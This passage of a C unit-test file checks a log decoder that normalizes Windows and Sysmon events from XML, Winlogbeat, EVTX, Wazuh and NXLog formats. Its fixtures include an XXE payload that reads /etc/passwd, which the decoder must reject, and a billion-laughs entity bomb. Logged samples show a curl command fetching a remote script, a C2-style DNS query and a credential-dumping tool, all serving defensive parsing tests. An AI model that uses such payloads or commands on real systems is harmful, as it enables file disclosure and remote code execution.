    ev = decode_unfailed(f, SYSMON_HEAD("12") D("EventType", "CreateKey") D("ProcessId", "3112")
                                D("TargetObject", "HKU\\S-1-5-21\\Software\\Evil") SYSMON_TAIL);
    want_str(ev, "event.type", "creation");
    want_str(ev, "registry.key", "S-1-5-21\\Software\\Evil");
    want_none(ev, "registry.value");
    want_unique(ev);

    ev = decode_unfailed(f,
                         SYSMON_HEAD("22") D("ProcessId", "7256") D("QueryName", "c2.evil.example")
                             D("QueryStatus", "9003") D("QueryResults", "-")
                                 D("Image", "C:\\Windows\\System32\\rundll32.exe") SYSMON_TAIL);
    want_str(ev, "event.action", "dns_query");
    want_str(ev, "dns.question.name", "c2.evil.example");
    want_str(ev, "dns.response_code", "NXDOMAIN");
    want_str(ev, "event.outcome", "failure");
    want_str(ev, "process.name", "rundll32.exe");
}

/* ---- hostile and broken XML ---- */

static void
test_xml_refuses_dtd(void **state)
{
    struct fx *f = *state;
    static const char xxe[] =
        "<?xml version='1.0'?><!DOCTYPE Event [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
        "<Event><System><EventID>&xxe;</EventID></System></Event>";
    static const char laughs[] =
        "<Event><!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;&lol;'>]>"
        "<System><EventID>&lol2;</EventID></System></Event>";
    int rc;
    struct ym_event *ev = decode_n(f, NULL, xxe, strlen(xxe), &rc);

    want_failure(f, ev, rc, "document type declarations are not allowed");
    assert_int_equal(f->err.col, 22);
    assert_ptr_equal(ev->raw.p, xxe);
    ev = decode_n(f, NULL, laughs, strlen(laughs), &rc);
    want_failure(f, ev, rc, "document type declarations are not allowed");
    /* an undeclared entity is a well-formedness error, not a lookup */
    static const char undeclared[] = "<Event><System><EventID>&xxe;</EventID></System></Event>";
    ev = decode_n(f, NULL, undeclared, strlen(undeclared), &rc);
    want_failure(f, ev, rc, "invalid XML");
}

static void
test_xml_malformed(void **state)
{
    struct fx *f = *state;
    static const char bad_root[] = "<Eventful><System/></Eventful>";
    static const char mismatch[] = "<Event><System><EventID>1</Channel></System></Event>";
    int rc;
    struct ym_event *ev;

    ev = decode_n(f, NULL, mismatch, strlen(mismatch), &rc);
    assert_true(ym_str_eqc(ev->sourcetype, "winxml"));
    want_failure(f, ev, rc, "winxml: invalid XML");
    assert_int_equal(ev->n_fields, 3); /* nothing but the failure fields */
    /* not detected as XML at all: "<Eventful" is not "<Event" */
    ev = decode_n(f, NULL, bad_root, strlen(bad_root), &rc);
    assert_false(ym_str_eqc(ev->sourcetype, "winxml"));
    /* forced: a root that is no event */
    {
        const struct decoder *x = decode_find("winxml");
        struct ym_event *e2 = ym_batch_add(&f->b);
        assert_non_null(x);
        e2->raw = YM_STR("<Events><Foo/></Events>");
        rc = decode_event(&f->ctx, x, e2, &f->err);
        want_failure(f, e2, rc, "not a Windows event");
    }
}

static void
test_xml_every_truncation(void **state)
{
    struct fx *f = *state;
    static const char line[] = SEC_4624;
    size_t n_ok = 0;

    /* Every prefix of a real event: kept, either decoded or tagged. */
    for (size_t len = 1; len < sizeof(line) - 1; len++) {
        int rc;
        struct ym_event *ev = decode_n(f, NULL, line, len, &rc);
        assert_ptr_equal(ev->raw.p, line);
        assert_int_equal(ev->raw.len, len);
        if (rc == 0)
            n_ok++;
        else
            want_str(ev, "tags", "_parse_failure");
        if ((len & 63) == 0)
            ym_batch_reset(&f->b);
    }
    /* Only prefixes that are not XML at all decode (as raw text). */
    assert_true(n_ok < 10);
}

static void
test_xml_bounds(void **state)
{
    struct fx *f = *state;
    size_t cap = 2 * 1024 * 1024, len = 0;
    char *big = test_malloc(cap);
    int rc;
    struct ym_event *ev;

    /* 3000 named data: the event stays within the field bound */
    len += (size_t)snprintf(
        big + len, cap - len, "%s",
        "<Event><System><EventID>1</EventID>"
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData>");
    for (int i = 0; i < 3000; i++)
        len += (size_t)snprintf(big + len, cap - len, "<Data Name='K%d'>v</Data>", i);
    len += (size_t)snprintf(big + len, cap - len, "%s", "</EventData></Event>");
    ev = decode_n(f, NULL, big, len, &rc);
    assert_int_equal(rc, 0);
    assert_true(ev->n_fields <= YM_MAX_FIELDS);
    assert_true(ev->n_dropped > 0);
    ym_batch_reset(&f->b);

    /* over 1 MiB: refused before parsing */
    memset(big, ' ', cap);
    memcpy(big, "<Event>", 7);
    ev = decode_n(f, NULL, big, 1024 * 1024 + 10, &rc);
    want_failure(f, ev, rc, "longer than");
    ym_batch_reset(&f->b);

    /* nesting far deeper than UserData is flattened */
    len =
        (size_t)snprintf(big, cap, "%s", "<Event><System><EventID>1</EventID></System><UserData>");
    for (int i = 0; i < 50; i++)
        len += (size_t)snprintf(big + len, cap - len, "<L%d>", i);
    len += (size_t)snprintf(big + len, cap - len, "x");
    for (int i = 49; i >= 0; i--)
        len += (size_t)snprintf(big + len, cap - len, "</L%d>", i);
    len += (size_t)snprintf(big + len, cap - len, "</UserData></Event>");
    ev = decode_n(f, NULL, big, len, &rc);
    assert_int_equal(rc, 0);
    assert_true(ev->n_dropped > 0);
    test_free(big);
}

/* ---- the JSON shapes ---- */

static void
test_json_winlogbeat(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f, "{\"@timestamp\":\"2026-11-02T09:15:00.000Z\",\"host\":{\"name\":\"ws042\"},"
           "\"event\":{\"code\":\"4625\",\"kind\":\"event\",\"module\":\"security\","
           "\"provider\":\"Microsoft-"
           "Windows-Security-Auditing\"},"
           "\"winlog\":{\"channel\":\"Security\",\"event_id\":\"4625\",\"computer_name\":"
           "\"WS042.corp.example\","
           "\"provider_name\":\"Microsoft-Windows-Security-Auditing\",\"keywords\":["
           "\"Audit Failure\"],"
           "\"record_id\":\"99\",\"event_data\":{\"TargetUserName\":\"admin\","
           "\"TargetDomainName\":\"CORP\","
           "\"IpAddress\":\"198.51.100.23\",\"IpPort\":\"61001\",\"LogonType\":\"3\","
           "\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc0000064\"}}}");

    assert_true(ym_str_eqc(ev->sourcetype, "json"));
    want_str(ev, "event.module", "windows"); /* Winlogbeat's "security" replaced */
    want_str(ev, "event.dataset", "windows.security");
    want_host(ev, "ws042"); /* Winlogbeat's host.name stays */
    want_ts(ev, utc(2026, 11, 2, 9, 15, 0));
    want_str(ev, "event.code", "4625");
    want_str(ev, "event.action", "logon-failed");
    want_str(ev, "event.outcome", "failure");
    want_str(ev, "user.name", "admin");
    want_ip(ev, "source.ip", "198.51.100.23");
    want_int(ev, "source.port", 61001);
    want_str(ev, "winlog.logon.failure.sub_status",
             "User logon with misspelled or bad user account");
    want_str(ev, "winlog.event_data.TargetUserName", "admin");
    want_unique(ev); /* event.code and event.kind replaced, not repeated */
}

static void
test_json_evtx(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f,
        "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/"
        "event\"},"
        "\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\","
        "\"Guid\":\"5770385F-C22A-43E0-BF4C-06F5698FFBD9\"}},\"EventID\":11,\"Version\":2,"
        "\"Level\":4,"
        "\"Task\":11,\"Opcode\":0,\"Keywords\":\"0x8000000000000000\",\"TimeCreated\":{\"#"
        "attributes\":"
        "{\"SystemTime\":\"2025-10-24T23:41:48.497170Z\"}},\"EventRecordID\":24322,\"Correlation\":"
        "null,"
        "\"Execution\":{\"#attributes\":{\"ProcessID\":3308,\"ThreadID\":4008}},"
        "\"Channel\":\"Microsoft-Windows-Sysmon/"
        "Operational\",\"Computer\":\"ar-win-dc.attackrange.local\","
        "\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},\"EventData\":{\"RuleName\":\"-"
        "\","
        "\"UtcTime\":\"2025-10-24 "
        "23:41:48.482\",\"ProcessGuid\":\"5AA13A44-0C90-68FC-BF1D-000000004002\","
        "\"ProcessId\":10048,\"Image\":\"C:\\\\Windows\\\\system32\\\\cmd.exe\","
        "\"TargetFilename\":\"C:\\\\bitsadmin.exe\",\"User\":\"ATTACKRANGE\\\\Administrator\"}}}");

    want_str(ev, "event.module", "windows");
    want_ts(ev, utc(2025, 10, 24, 23, 41, 48) + 497170000);
    want_host(ev, "ar-win-dc.attackrange.local");
    want_str(ev, "winlog.event_id", "11"); /* typed as the XML decoder types it */
    want_str(ev, "winlog.channel", "Microsoft-Windows-Sysmon/Operational");
    want_str(ev, "winlog.provider_name", "Microsoft-Windows-Sysmon");
    want_int(ev, "winlog.process.pid", 3308);
    want_str(ev, "winlog.user.identifier", "S-1-5-18");
    want_int(ev, "winlog.event_data.ProcessId", 10048);
    want_int(ev, "Event.EventData.ProcessId", 10048); /* the original stays */
    want_str(ev, "event.code", "11");
    want_str(ev, "event.action", "file_create");
    want_int(ev, "process.pid", 10048);
    want_str(ev, "process.name", "cmd.exe");
    want_str(ev, "file.path", "C:\\bitsadmin.exe");
    want_str(ev, "user.name", "Administrator");
    want_unique(ev);

    /* the "_attributes" spelling of other converters */
    ev = decode_unfailed(
        f, "{\"Event\":{\"System\":{\"Provider_attributes\":{\"Name\":\"Microsoft-"
           "Windows-Security-Auditing\"},"
           "\"EventID\":\"4672\",\"TimeCreated_attributes\":{\"SystemTime\":\"2026-11-"
           "02T08:00:00.5Z\"},"
           "\"Channel\":\"Security\",\"Computer\":\"DC01\"},\"EventData\":{"
           "\"SubjectUserName\":\"dadmin\","
           "\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x30d5f\"}}}");
    want_ts(ev, utc(2026, 11, 2, 8, 0, 0) + 500 * MS);
    want_str(ev, "event.provider", "Microsoft-Windows-Security-Auditing");
    want_str(ev, "event.action", "logged-in-special");
    want_str(ev, "user.name", "dadmin");
    want_host(ev, "DC01");
}

static void
test_json_wazuh(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f,
        "{\"win\":{\"eventdata\":{\"destinationPort\":\"5985\",\"image\":\"C:"
        "\\\\\\\\Windows\\\\\\\\System32\\\\\\\\svchost.exe\","
        "\"sourcePort\":\"58411\",\"initiated\":\"false\",\"destinationIp\":\"192.168.0.101\","
        "\"protocol\":\"tcp\","
        "\"sourceIp\":\"192.168.0.107\",\"processId\":\"1320\",\"user\":\"NT "
        "AUTHORITY\\\\\\\\NETWORK SERVICE\"},"
        "\"system\":{\"eventID\":\"3\",\"providerName\":\"Microsoft-Windows-Sysmon\",\"channel\":"
        "\"Microsoft-Windows-Sysmon/Operational\",\"computer\":\"hoteldc.corp.local\","
        "\"systemTime\":\"2021-11-03T12:28:21.9014598Z\",\"level\":\"4\",\"eventRecordID\":"
        "\"19452\"}}}");

    want_str(ev, "event.module", "windows");
    want_host(ev, "hoteldc.corp.local");
    want_ts(ev, utc(2021, 11, 3, 12, 28, 21) + 901459800);
    want_str(ev, "winlog.event_id", "3");
    want_str(ev, "winlog.event_data.DestinationPort", "5985"); /* the capital restored */
    want_str(ev, "win.eventdata.destinationPort", "5985");
    want_int(ev, "winlog.record_id", 19452);
    want_ip(ev, "source.ip", "192.168.0.107");
    want_int(ev, "destination.port", 5985);
    want_str(ev, "network.direction", "ingress");
    want_str(ev, "user.name", "NETWORK SERVICE"); /* the agent's doubled backslash */
    want_str(ev, "user.domain", "NT AUTHORITY");
    want_str(ev, "process.name", "svchost.exe");
    want_unique(ev);
}

static void
test_json_flat(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f,
        "{\"Keywords\":-9214364837600034816,\"SeverityValue\":2,\"EventID\":4688,"
        "\"ProviderGuid\":\"{54849625-5478-4994-A5BA-3E3B0328C30D}\",\"Channel\":\"security\","
        "\"host\":\"wec.internal.cloudapp.net\",\"EventType\":\"AUDIT_SUCCESS\","
        "\"EventTime\":\"2020-10-18 06:56:18\",\"@timestamp\":\"2020-10-18T10:56:20.003Z\","
        "\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"Hostname\":\"WORKSTATION5\","
        "\"SubjectUserName\":\"wardog\",\"SubjectDomainName\":\"WORKSTATION5\","
        "\"NewProcessId\":\"0x1a74\",\"NewProcessName\":\"C:"
        "\\\\Users\\\\wardog\\\\Desktop\\\\Outflank-Dumpert.exe\","
        "\"ProcessId\":\"0xc08\",\"CommandLine\":\"Outflank-Dumpert.exe\","
        "\"ParentProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"RecordNumber\":2581831}");

    want_str(ev, "event.module", "windows");
    want_host(ev, "WORKSTATION5"); /* the event's computer, not the collector */
    want_ts(ev, utc(2020, 10, 18, 10, 56, 20) + 3 * MS);
    want_str(ev, "winlog.event_id", "4688");
    want_str(ev, "winlog.keywords", "0x8020000000000000");
    want_none(ev, "winlog.event_data.EventType"); /* NXLog's AUDIT_SUCCESS */
    want_str(ev, "winlog.channel", "security");
    want_int(ev, "winlog.record_id", 2581831);
    want_str(ev, "winlog.event_data.NewProcessId", "0x1a74");
    want_none(ev, "winlog.event_data.Hostname");
    want_str(ev, "event.dataset", "windows.security");
    want_str(ev, "event.outcome", "success");
    want_int(ev, "process.pid", 0x1a74);
    want_str(ev, "process.name", "Outflank-Dumpert.exe");
    want_int(ev, "process.parent.pid", 0xc08);
    want_str(ev, "user.name", "wardog");
    want_unique(ev);

    /* Sysmon 12 through NXLog: its EventType is Sysmon's, UtcTime the time */
    ev = decode_unfailed(
        f,
        "{\"EventID\":12,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS5\","
        "\"SourceName\":\"Microsoft-Windows-Sysmon\",\"EventType\":\"CreateKey\","
        "\"@timestamp\":\"2020-10-18T10:56:22.000Z\",\"UtcTime\":\"2020-10-18 10:56:18.123\","
        "\"ProcessId\":\"1072\",\"Image\":\"C:\\\\windows\\\\Explorer.EXE\","
        "\"TargetObject\":\"HKU\\\\S-1-5-21\\\\Software\\\\Run\"}");
    want_ts(ev, utc(2020, 10, 18, 10, 56, 18) + 123 * MS);
    want_str(ev, "event.type", "creation");
    want_str(ev, "registry.hive", "HKU");
    want_str(ev, "winlog.event_data.EventType", "CreateKey");

    /* only NXLog's local EventTime: converted from the configured zone (UTC) */
    ev = decode_unfailed(f, "{\"EventID\":4634,\"Channel\":\"Security\",\"Hostname\":\"WS5\","
                            "\"EventTime\":\"2020-10-18 06:56:18\",\"TargetUserName\":\"bob\"}");
    want_ts(ev, utc(2020, 10, 18, 6, 56, 18));
    want_str(ev, "user.name", "bob");
}

static void
test_json_not_windows(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev;

    ev = decode_unfailed(f, "{\"EventID\":4624,\"msg\":\"an application that says EventID\"}");
    want_str(ev, "event.module", "json");
    want_none(ev, "event.code");
    ev = decode_unfailed(
        f, "{\"timestamp\":\"2026-11-02T09:14:03.123456+0000\",\"event_type\":\"dns\","
           "\"src_ip\":\"10.0.0.1\",\"dns\":{\"rrname\":\"x.example\"}}");
    assert_false(ym_str_eqc(need(ev, "event.module", YM_T_STR)->v.s, "windows"));
}

/* ---- Sysmon for Linux, payloads in syslog, WinEvtLog ---- */

#define LINUX_1                                                                                    \
    "Jun  7 03:17:01 web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "                \
    "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><Version>5</Version>"    \
    "<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"      \
    "<TimeCreated SystemTime=\"2026-06-07T03:17:01.396167000Z\"/><EventRecordID>20466"             \
    "</EventRecordID><Correlation/><Execution ProcessID=\"5856\" ThreadID=\"5856\"/>"              \
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security "              \
    "UserId=\"0\"/>"                                                                               \
    "</System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"ProcessGuid\">"              \
    "{924935dc-f6ad-647f-557b-c0aebb550000}</Data><Data Name=\"ProcessId\">6125</Data>"            \
    "<Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl -s "                 \
    "http://203.0.113.9/x.sh</Data><Data Name=\"CurrentDirectory\">/tmp</Data>"                    \
    "<Data Name=\"User\">www-data</Data><Data Name=\"Hashes\">-</Data>"                            \
    "<Data Name=\"ParentProcessId\">6124</Data><Data Name=\"ParentImage\">/usr/bin/dash</Data>"    \
    "<Data Name=\"ParentCommandLine\">/bin/sh</Data></EventData></Event>"

static void
test_sysmon_linux(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(f, LINUX_1);
    int rc;

    want_str(ev, "event.module", "sysmon_linux");
    want_str(ev, "event.dataset", "sysmon_linux");
    want_ts(ev, utc(2026, 6, 7, 3, 17, 1) + 396167000); /* SystemTime, not the syslog time */
    want_host(ev, "web01");
    want_str(ev, "event.code", "1");
    want_str(ev, "event.provider", "Linux-Sysmon");
    want_str(ev, "observer.product", "Sysmon");
    want_str(ev, "event.action", "process_creation");
    want_str(ev, "process.name", "curl"); /* not the syslog tag "sysmon" */
    want_int(ev, "process.pid", 6125);
    want_str(ev, "process.executable", "/usr/bin/curl");
    want_str(ev, "process.command_line", "curl -s http://203.0.113.9/x.sh");
    want_str(ev, "process.parent.name", "dash");
    want_int(ev, "process.parent.pid", 6124);
    want_str(ev, "user.name", "www-data");
    want_none(ev, "process.hash.md5");
    want_str(ev, "winlog.user.identifier", "0");
    want_str(ev, "winlog.event_data.Image", "/usr/bin/curl");
    want_unique(ev);

    ev = decode_unfailed(
        f, "Jun  7 03:20:00 web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/>"
           "<EventID>3</EventID><TimeCreated SystemTime=\"2026-06-07T03:20:00.000Z\"/>"
           "<Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer></System>"
           "<EventData><Data Name=\"ProcessId\">911</Data><Data Name=\"Image\">/usr/sbin/sshd"
           "</Data><Data Name=\"User\">root</Data><Data Name=\"Protocol\">tcp</Data>"
           "<Data Name=\"Initiated\">false</Data><Data Name=\"SourceIp\">198.51.100.4</Data>"
           "<Data Name=\"SourcePort\">50122</Data><Data Name=\"DestinationIp\">10.0.0.5</Data>"
           "<Data Name=\"DestinationPort\">22</Data></EventData></Event>");
    want_str(ev, "event.action", "network_connection");
    want_ip(ev, "source.ip", "198.51.100.4");
    want_int(ev, "destination.port", 22);
    want_str(ev, "process.name", "sshd");

    /* sysmon's own start-up line: not an event, left as syslog made it */
    ev = decode_unfailed(f, "Jun  7 03:00:00 web01 sysmon: Sysmon v1.0.2 started.");
    want_str(ev, "process.name", "sysmon");
    want_none(ev, "event.code");

    /* malformed XML under the sysmon tag: kept, tagged with the reason */
    static const char bad[] = "Jun  7 03:00:01 web01 sysmon: <Event><System><EventID>1</Event>";
    ev = decode_n(f, NULL, bad, strlen(bad), &rc);
    want_str(ev, "tags", "_parse_failure");
    want_str(ev, "event.kind", "pipeline_error");
    assert_non_null(memmem(need(ev, "error.message", YM_T_STR)->v.s.p,
                           need(ev, "error.message", YM_T_STR)->v.s.len, "invalid XML", 11));
    assert_ptr_equal(ev->raw.p, bad);
}

static void
test_xml_payload_in_syslog(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f, "Nov  2 09:14:05 wec01 nxlog: <Event "
           "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
           "<System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID>"
           "<Keywords>0x8010000000000000</Keywords><TimeCreated "
           "SystemTime='2026-11-02T09:14:03.000Z'/>"
           "<Channel>Security</Channel><Computer>WS042</Computer></System><EventData>"
           "<Data Name='TargetUserName'>root</Data><Data Name='IpAddress'>203.0.113.50</Data>"
           "</EventData></Event>");

    want_host(ev, "wec01");                  /* the syslog header's */
    want_ts(ev, utc(2026, 11, 2, 9, 14, 5)); /* the syslog header's */
    want_str(ev, "winlog.computer_name", "WS042");
    want_str(ev, "event.action", "logon-failed");
    want_str(ev, "user.name", "root");
    want_ip(ev, "source.ip", "203.0.113.50");
    want_str(ev, "event.module", "windows");
}

static void
test_winevtlog(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f,
        "2014 Dec 20 09:29:47 WinEvtLog: Microsoft-Windows-Sysmon/Operational: INFORMATION(1): "
        "Microsoft-Windows-Sysmon: SYSTEM: NT AUTHORITY: WIN-U93G48C7BOP: Process Create:  "
        "UtcTime: "
        "12/20/2014 2:29 PM  ProcessGuid: {00000000-87DB-5495-0000-001045F25A00}  ProcessId: 3048  "
        "Image: C:\\Windows\\system32\\svchost.exe  CommandLine: "
        "\"C:\\Windows\\system32\\NOTEPAD.EXE\" "
        "C:\\Users\\Administrator\\Desktop\\ossec.log  User: WIN-U93G48C7BOP\\Administrator  "
        "ParentProcessId: 848  ParentImage: C:\\Windows\\Explorer.EXE");
    /* chosen by its syslog program, WinEvtLog */
    want_str(ev, "event.module", "windows");
    want_str(ev, "event.code", "1");
    want_str(ev, "winlog.channel", "Microsoft-Windows-Sysmon/Operational");
    want_str(ev, "winlog.event_data.ProcessId", "3048");
    want_str(ev, "event.action", "process_creation");
    want_str(ev, "process.name", "svchost.exe");
    want_int(ev, "process.pid", 3048);
    want_str(ev, "process.command_line",
             "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\Administrator\\Desktop\\ossec.log");
    want_str(ev, "user.name", "Administrator");
    want_int(ev, "process.parent.pid", 848);
    want_host(ev, "WIN-U93G48C7BOP");
    want_unique(ev);

    ev = decode_unfailed(f,
                         "2013 Oct 09 17:09:04 WinEvtLog: Application: INFORMATION(1): My Script: "
                         "(no user): no domain: demo1.foo.example.com: test");
    want_str(ev, "event.code", "1");
    want_str(ev, "event.provider", "My Script");
    want_str(ev, "event.dataset", "windows.application");
    want_none(ev, "winlog.user.name");
    want_host(ev, "demo1.foo.example.com");

    /* not the eventlog shape: untouched */
    ev = decode_unfailed(f, "2013 Oct 09 17:09:04 WinEvtLog: something else entirely");
    want_none(ev, "event.code");
}

int
main(void)
{
#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
    const struct CMUnitTest tests[] = {
        T(test_xml_security_4624),
        T(test_xml_security_4625_failure),
        T(test_xml_declaration_wrapper_rendering),
        T(test_xml_user_data_1102),
        T(test_xml_security_process_4688),
        T(test_xml_security_accounts),
        T(test_xml_security_kerberos_ntlm_wfp),
        T(test_xml_sysmon),
        T(test_xml_refuses_dtd),
        T(test_xml_malformed),
        T(test_xml_every_truncation),
        T(test_xml_bounds),
        T(test_json_winlogbeat),
        T(test_json_evtx),
        T(test_json_wazuh),
        T(test_json_flat),
        T(test_json_not_windows),
        T(test_sysmon_linux),
        T(test_xml_payload_in_syslog),
        T(test_winevtlog),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
